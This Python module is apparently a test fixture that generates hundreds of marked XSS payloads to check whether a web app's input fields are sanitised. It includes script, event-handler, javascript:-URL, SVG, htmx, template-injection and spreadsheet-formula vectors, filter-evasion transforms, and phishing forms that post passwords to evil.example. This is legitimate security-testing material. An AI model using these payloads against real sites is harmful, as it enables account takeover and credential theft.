"""Hostile text for every field people or platforms fill in: several hundred XSS payloads, each traceable.

Each payload carries a unique marker (``fbx0001``…) twice: as plain text, and inside the JavaScript it would run,
``__xss('fbx0001')`` or ``alert('fbx0001')``. The browser test defines ``window.__xss`` and listens for dialogs,
so a payload that ever runs names itself; the HTML test finds markers wherever they land in the parsed page.

Payloads are base vectors (below, by category) times transformations (mixed case, entity encoding, null bytes,
bidi and zero-width characters, padding to many kilobytes...). A transformation rewrites the markup of a vector,
never its marker or its JavaScript call, so a transformed payload that got through would still report itself.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

MARKER_PREFIX = "fbx"
MARKER = re.compile(r"fbx\d{4}", re.IGNORECASE)
LONG_PADDING = 6000


@dataclass(frozen=True)
class Payload:
    id: str
    category: str
    transform: str
    text: str


# {id} is the marker; {js} the call that reports it. Every vector keeps the marker in its markup too.
VECTORS: dict[str, list[str]] = {
    "script": [
        "<script>{js}</script>{id}",
        "<script src=data:,{js}></script>{id}",
        "<script>/*</script><script>*/{js}</script>{id}",
        "</script><script>{js}</script>{id}",
        '<script type="text/javascript">{js};</script>{id}',
        "<<script>{js};//<</script>{id}",
        "<script\n>{js}</script\n>{id}",
        "<script/x>{js}</script>{id}",
        "<scr<script>ipt>{js}</scr</script>ipt>{id}",
        "<script>setTimeout('{js}')</script>{id}",
        "<script>eval(atob('X194c3MoKQ=='));{js}</script>{id}",
        "<script>document.write('<img src=x onerror={js}>')</script>{id}",
    ],
    "event handler": [
        "<img src=x onerror={js} alt={id}>",
        "<img src=x onerror=\"{js}\" title='{id}'>",
        "<img/src/onerror={js} alt={id}>",
        "<svg onload={js} id={id}>",
        "<svg/onload={js}>{id}",
        "<body onload={js}>{id}",
        "<input autofocus onfocus={js} value={id}>",
        "<details open ontoggle={js}>{id}</details>",
        "<video><source onerror={js}>{id}</video>",
        "<audio src=x onerror={js}>{id}</audio>",
        "<div onmouseover={js}>{id}</div>",
        "<marquee onstart={js}>{id}</marquee>",
        "<select autofocus onfocus={js}><option>{id}</select>",
        "<textarea autofocus onfocus={js}>{id}</textarea>",
        "<iframe onload={js}></iframe>{id}",
        "<a onclick={js} href=#>{id}</a>",
        "<button onclick={js}>{id}</button>",
        "<form onsubmit={js}><button>{id}</button></form>",
        "<style onload={js}></style>{id}",
        "<link rel=stylesheet href=x onerror={js}>{id}",
        "<svg><animate onbegin={js} attributeName=x dur=1s>{id}",
        "<svg><set onbegin={js} attributeName=x to=1>{id}",
        "<img src=x:x onerror=javascript:{js}>{id}",
        "<xss id={id} onpointerenter={js} tabindex=1>",
        "<div draggable=true ondragstart={js}>{id}</div>",
        "<body onpageshow={js}>{id}",
        "<object data=x onerror={js}>{id}</object>",
        "<img src=x onerror=\u2028{js}>{id}",
        "<img src=x onerror=&#x61;lert('{id}')>{id}",
        "<img src=x oNeRrOr={js}>{id}",
    ],
    "javascript url": [
        "javascript:{js}//{id}",
        "JaVaScRiPt:{js}//{id}",
        "  javascript:{js}//{id}",
        "java\tscript:{js}//{id}",
        "java\nscript:{js}//{id}",
        "javascript&colon;{js}//{id}",
        "&#106;avascript:{js}//{id}",
        "&#x6A;&#x61;vascript:{js}//{id}",
        "\x01javascript:{js}//{id}",
        "javascript://%0a{js}//{id}",
        "data:text/html,<script>{js}</script>{id}",
        "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+#{id}",
        "data:image/svg+xml,<svg onload={js}>{id}",
        'vbscript:msgbox("{id}")',
        "<a href=javascript:{js}>{id}</a>",
        '<a href="jav&#x09;ascript:{js}">{id}</a>',
        "<iframe src=javascript:{js}></iframe>{id}",
        "<form action=javascript:{js}><button>{id}</button></form>",
        "<button form=x formaction=javascript:{js}>{id}</button>",
        "<embed src=javascript:{js}>{id}",
        "<object data=javascript:{js}>{id}</object>",
        '<img srcset="x 1x, javascript:{js} 2x">{id}',
    ],
    "url breakout": [
        'https://evil.example/{id}.png"><script>{js}</script>',
        "https://evil.example/{id}.png' onerror='{js}",
        'https://evil.example/{id}.png" onerror="{js}',
        "https://evil.example/{id}.png onerror={js}",
        'https://evil.example/"autofocus/onfocus="{js}"/{id}',
        'https://evil.example/{id}#"><img src=x onerror={js}>',
        "https:/\\evil.example/{id}",
        "//evil.example/{id}",
        "http://evil.example/{id}?a=<svg/onload={js}>",
        'https://evil.example/{id}"style="position:fixed;inset:0"onmouseover="{js}',
    ],
    "svg and mathml": [
        "<svg><script>{js}</script></svg>{id}",
        '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>{id}</text></a></svg>',
        "<svg><a href=javascript:{js}><text>{id}</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={js}>{id}",
        "<svg><style><img src=x onerror={js}></style></svg>{id}",
        '<math href="javascript:{js}">{id}</math>',
        '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></iframe></foreignObject></svg>{id}',
        '<svg><use href="data:image/svg+xml,<svg id=x onload={js}>#x"/></svg>{id}',
        '<noscript><p title="</noscript><img src=x onerror={js}>">{id}',
        '<iframe srcdoc="<script>{js}</script>"></iframe>{id}',
        "<svg><title><img src=x onerror={js}></title></svg>{id}",
        "<math><maction actiontype=statusline xlink:href=javascript:{js}>{id}</maction></math>",
        "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>{id}",
        "<template><img src=x onerror={js}></template>{id}",
    ],
    "attribute breakout": [
        '"><img src=x onerror={js}>{id}',
        "'><img src=x onerror={js}>{id}",
        "' onmouseover='{js}' x='{id}",
        '" autofocus onfocus="{js}" x="{id}',
        "` onmouseover={js} x={id}",
        '"/><svg onload={js}>{id}',
        "</textarea><script>{js}</script>{id}",
        "</title><script>{js}</script>{id}",
        "</bdi></h2><img src=x onerror={js}>{id}",
        "--><script>{js}</script>{id}",
        "]]><script>{js}</script>{id}",
        "</q><script>{js}</script>{id}",
        "</option></select><img src=x onerror={js}>{id}",
        "</small><img src=x onerror={js}>{id}",
        "</li></ol><img src=x onerror={js}>{id}",
        "'}});{js};//{id}",
        '"}};{js};//{id}',
        '", "X-Evil": "{id}"}}\'><img src=x onerror={js}>',
        "\\'; {js}; //{id}",
        '" onmouseover={js} "{id}',
        '"\n onfocus={js} autofocus "{id}',
        "</td></tr></table><img src=x onerror={js}>{id}",
    ],
    "template injection": [
        "{{{{7*7}}}}{id}",
        "{{{{ request.user.password }}}}{id}",
        "{{% debug %}}{id}",
        "{{% load static %}}{{% static 'x' %}}{id}",
        "{{{{ csrf_token }}}}{id}",
        "{{% include 'base.html' %}}{id}",
        "{{{{ settings.SECRET_KEY }}}}{id}",
        "${{7*7}}{id}",
        "#{{7*7}}{id}",
        "<%= 7*7 %>{id}",
        "{{{{constructor.constructor('{js}')()}}}}{id}",
        "[[${{7*7}}]]{id}",
        "{{%- raw -%}}<script>{js}</script>{{%- endraw -%}}{id}",
        "{{% partial queue-row %}}{id}",
        "{{{{ membership.brand.customer_salt }}}}{id}",
    ],
    "htmx": [
        '<div hx-get="/admin/" hx-trigger="load" id={id}>x</div>',
        '<div hx-on:htmx:load="{js}">{id}</div>',
        '<img src=x hx-on::load="{js}">{id}',
        '<div hx-on="htmx:load: {js}">{id}</div>',
        '<div data-hx-get="/b/acme/policy/" data-hx-trigger="load">{id}</div>',
        '<a hx-post="/b/acme/queue/bulk/" hx-vals=\'{{"ids":["1"],"kind":"approve"}}\' hx-trigger="load">{id}</a>',
        '<div hx-trigger="load" hx-get="data:text/html,<script>{js}</script>">{id}</div>',
        '" hx-get="/evil/{id}" hx-trigger="load" x="',
        "' hx-post='/b/acme/members/invite/' hx-trigger='load' x='{id}",
        '<div hx-swap-oob="true" id="toasts"><img src=x onerror={js}>{id}</div>',
        '<div id="queue-count" hx-swap-oob="innerHTML">{id}<img src=x onerror={js}></div>',
        '<meta name="htmx-config" content=\'{{"allowEval":true}}\'>{id}',
        '<div hx-vars="{js}">{id}</div>',
        "<div hx-headers='js:{{a:{js}}}'>{id}</div>",
        '<form hx-boost="true" action="/account/logout/">{id}</form>',
        '<div hx-ext="evil" data-shortcut="a">{id}</div>',
        '<button data-shortcut="a" hx-post="/b/acme/queue/undo/">{id}</button>',
        '<div hx-trigger="every 1s" hx-get="/b/acme/audit.csv">{id}</div>',
    ],
    "css": [
        '<style>body{{background:url("javascript:{js}")}}</style>{id}',
        '<div style="background:url(javascript:{js})">{id}</div>',
        '" style="x:expression({js})" x="{id}',
        '<link rel=stylesheet href="https://evil.example/{id}.css">',
        "</style><script>{js}</script>{id}",
        "@import 'https://evil.example/{id}.css';",
        '<style>@keyframes x{{}}</style><div style="animation-name:x" onanimationstart="{js}">{id}</div>',
        '<div style="position:fixed;inset:0;z-index:9999;background:red">{id}</div>',
        "<style>*{{display:none}}</style>{id}",
        "expression({js}){id}",
    ],
    "spreadsheet formula": [
        '=HYPERLINK("https://evil.example/{id}","Click")',
        "+cmd|' /C calc'!A0 {id}",
        "-2+3+cmd|' /C calc'!A0 {id}",
        "@SUM(1+1)*cmd|' /C calc'!A0 {id}",
        "\t=1+1 {id}",
        "\r=1+1 {id}",
    ],
    "other markup": [
        '<base href="https://evil.example/{id}/">',
        '<meta http-equiv="refresh" content="0;url=javascript:{js}">{id}',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/{id}">',
        '<form action="https://evil.example/{id}"><input name=password type=password></form>',
        '<a href="https://evil.example/{id}">Verify your account</a>',
        "<h1 id={id}>Your session expired</h1>",
        "<b>{id}</b><i>bold</i>",
        '<input type=hidden name=csrfmiddlewaretoken value="{id}">',
        "<portal src=https://evil.example/{id}></portal>",
        "<!--{id}--><script>{js}</script>",
        "<![CDATA[<script>{js}</script>]]>{id}",
        "<?xml-stylesheet href=javascript:{js}?>{id}",
        "<plaintext>{id}",
        "<xmp><script>{js}</script></xmp>{id}",
    ],
}


def _splits(template: str) -> list[str]:
    """The template cut around its placeholders, so transformations leave {id} and {js} alone."""
    return re.split(r"(\{id\}|\{js\})", template)


def _markup_only(change: Callable[[str], str]) -> Callable[[str], str]:
    def transform(template: str) -> str:
        parts = _splits(template)
        return "".join(part if part in ("{id}", "{js}") else change(part) for part in parts)

    return transform


def _mixed_case(text: str) -> str:
    out, upper = [], False
    for char in text:
        if char.isalpha():
            out.append(char.upper() if upper else char.lower())
            upper = not upper
        else:
            out.append(char)
    return "".join(out)


def _entities(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _numeric_entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "<>\"'=:" else char for char in text)


def _null_bytes(text: str) -> str:
    return text.replace("<", "<\x00").replace("script", "scr\x00ipt").replace("=", "\x00=")


def _bidi(text: str) -> str:
    return "\u202e" + text.replace("<", "<\u200b").replace("on", "o\u200dn") + "\u2066\u200f"


def _fullwidth(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")


def _url_encoded(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22").replace(" ", "%20")


def _whitespace(text: str) -> str:
    return text.replace(" ", "\n\t").replace("=", " = ")


TRANSFORMS: dict[str, Callable[[str], str]] = {
    "as is": lambda template: template,
    "mixed case": _markup_only(_mixed_case),
    "entity encoded": _markup_only(_entities),
    "null bytes": _markup_only(_null_bytes),
    "bidi and zero-width": _markup_only(_bidi),
}
# Applied to a few vectors per category only: they add little beyond the six above.
RARE_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "numeric entities": _markup_only(_numeric_entities),
    "fullwidth": _markup_only(_fullwidth),
    "url encoded": _markup_only(_url_encoded),
    "whitespace": _markup_only(_whitespace),
    "very long": lambda template: "{id} " + "A" * LONG_PADDING + template,
}
RARE_PER_CATEGORY = 2


def _build() -> list[Payload]:
    payloads: list[Payload] = []
    seen: set[str] = set()

    def add(category: str, transform: str, template: str, index: int) -> None:
        if template in seen:
            return
        seen.add(template)
        marker = f"{MARKER_PREFIX}{len(payloads) + 1:04d}"
        call = f"alert('{marker}')" if index % 3 == 2 else f"__xss('{marker}')"
        text = template.replace("{id}", marker).replace("{js}", call)
        payloads.append(Payload(marker, category, transform, text.replace("{{", "{").replace("}}", "}")))

    for category, templates in VECTORS.items():
        for index, template in enumerate(templates):
            for name, transform in TRANSFORMS.items():
                add(category, name, transform(template), index)
            if index < RARE_PER_CATEGORY:
                for name, transform in RARE_TRANSFORMS.items():
                    add(category, name, transform(template), index)
    return payloads


PAYLOADS: list[Payload] = _build()
BY_ID: dict[str, Payload] = {payload.id: payload for payload in PAYLOADS}


def markers_in(text: str) -> set[str]:
    return {marker.lower() for marker in MARKER.findall(text)}


def cycle(offset: int) -> Iterator[Payload]:
    """Every payload once, starting at `offset`: field k of a row takes cycle(k), so each field sees them all."""
    count = len(PAYLOADS)
    for index in range(count):
        yield PAYLOADS[(index + offset) % count]
